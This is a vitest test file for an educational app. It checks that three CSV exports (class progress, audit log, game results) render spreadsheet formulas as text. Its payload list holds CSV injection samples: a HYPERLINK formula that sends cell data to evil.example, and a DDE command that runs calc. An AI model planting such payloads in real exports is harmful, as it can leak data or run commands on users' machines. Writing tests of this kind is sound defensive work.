import { type Endpoint, endpoints } from '@sparked/contracts';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { users } from '../src/db/schema';
import { as } from './support/economy';
import { learningClass } from './support/learning-class';
import { createTestApp, type TestApp } from './support/test-app';
import { createUser, registerStudent, type SignedIn, signIn } from './support/users';

/**
 * OWASP's CSV injection payloads: formulas a spreadsheet runs (a link that sends the sheet away,
 * a command), and the other characters a cell must not start with.
 */
const payloads = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
];

/** Every CSV export of the endpoint table is fed the payloads below; a new one must be too. */
const covered = ['classProgressCsv', 'exportAuditLog', 'gameResults'];

let t: TestApp;
let teacher: SignedIn;
let admin: SignedIn;
beforeAll(async () => {
  t = await createTestApp();
  teacher = await signIn(t.app, (await createUser(t.database.db, 'facilitator')).email);
  admin = await signIn(t.app, (await createUser(t.database.db, 'admin')).email);
});
afterAll(() => t.close());

/** Names are refused with tabs and line breaks today; older accounts may still hold them. */
const rename = (userId: string, firstName: string) =>
  t.database.db.update(users).set({ firstName }).where(eq(users.id, userId));

/** The CSV's cells as a spreadsheet reads them; none may start as a formula. */
function cellsOf(csv: string): string[][] {
  const rows = parse(csv) as string[][];
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  return rows;
}

/** The payload as the export must hold it: whole, as text. */
const asText = (payload: string) => `'${payload}`;

describe('every CSV export keeps spreadsheet formulas as text', () => {
  it('covers each CSV export of the endpoint table', () => {
    const exports = Object.entries(endpoints as Record<string, Endpoint>)
      .filter(([, endpoint]) => endpoint.produces === 'text/csv')
      .map(([name]) => name);
    expect(exports.sort()).toEqual(covered);
  });

  it('the class progress CSV, with students named as formulas', async () => {
    const placeholders = payloads.map((_, index) => `Student${index}`);
    const { classId, students } = await learningClass(t.app, teacher.accessToken, placeholders, 1);
    for (const [index, student] of students.entries())
      await rename(student.userId, payloads[index] ?? '');
    const response = await as(t, teacher).get(`/sparked-api/classes/${classId}/progress.csv`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    const [header, ...rows] = cellsOf(response.body);
    expect(header).toEqual(['Student', 'Activity', 'Status', 'Score (%)', 'Minutes']);
    expect(rows.map((row) => row[0]).sort()).toEqual(
      payloads.map((payload) => asText(`${payload} Realname`)).sort(),
    );
    expect(rows[0]?.slice(2)).toEqual(['Not started', '', '0']);
    const student = students[0]?.token ?? '';
    const refused = await t.app.inject({
      url: `/sparked-api/classes/${classId}/progress.csv`,
      headers: { authorization: `Bearer ${student}` },
    });
    expect(refused.statusCode).toBe(403);
  });

  it('the audit log, with formulas as users’ names and as reasons', async () => {
    const subjects: string[] = [];
    for (const payload of payloads) {
      const student = await registerStudent(t.app);
      await rename(student.user.id, payload);
      subjects.push(student.user.id);
      const grant = await as(t, admin).post('/tools-api/wallets/grants', {
        userId: student.user.id,
        wallet: 'ACHIEVEMENT_POINTS',
        amount: 5,
        reason: `${payload} reason`,
      });
      expect(grant.statusCode, grant.body).toBe(201);
    }
    const response = await as(t, admin).get('/sparked-api/audit/export?action=wallet.grant');
    expect(response.statusCode).toBe(200);
    const [header, ...rows] = cellsOf(response.body);
    const user = header?.indexOf('User') ?? -1;
    const reason = header?.indexOf('Reason') ?? -1;
    expect(rows.map((row) => row[user]).sort()).toEqual(
      payloads.map((payload) => asText(`${payload} Student`)).sort(),
    );
    expect(rows.map((row) => row[reason]).sort()).toEqual(
      payloads.map((payload) => asText(`${payload.trim()} reason`)).sort(),
    );
  });

  it('the game results, with formulas as the answers players picked', async () => {
    const text = payloads
      .map((payload, index) => `Question ${index + 1}?\nA. ${payload}\nB. No\nANSWER: A`)
      .join('\n\n');
    const opened = await as(t, teacher).post('/sparked-api/games/rooms', {
      questionSet: { title: 'Formulas', text },
    });
    expect(opened.statusCode, opened.body).toBe(201);
    let room = opened.json().data as { id: string; pin: string; step: number };
    const player = await registerStudent(t.app);
    expect(
      (await as(t, player).post('/sparked-api/games/join', { pin: room.pin })).statusCode,
    ).toBe(200);
    const advance = async () => {
      const next = await as(t, teacher).post(`/sparked-api/games/rooms/${room.id}/advance`, {
        step: room.step,
      });
      expect(next.statusCode, next.body).toBe(200);
      room = next.json().data;
      return room as typeof room & { phase: string; question?: { index: number } };
    };
    let step = await advance();
    while (step.phase !== 'podium') {
      if (step.phase === 'question' && step.question)
        await as(t, player).post(`/sparked-api/games/rooms/${room.id}/answers`, {
          questionIndex: step.question.index,
          optionId: 'A',
        });
      step = await advance();
    }
    const response = await as(t, teacher).get(`/sparked-api/games/rooms/${room.id}/results.csv`);
    expect(response.statusCode).toBe(200);
    const [, row] = cellsOf(response.body);
    const picked = row?.slice(4).map((cell) => cell.replace(/ \(right, \d+ points\)$/, ''));
    expect(picked).toEqual(payloads.map((payload) => asText(payload.trim())));
  });
});
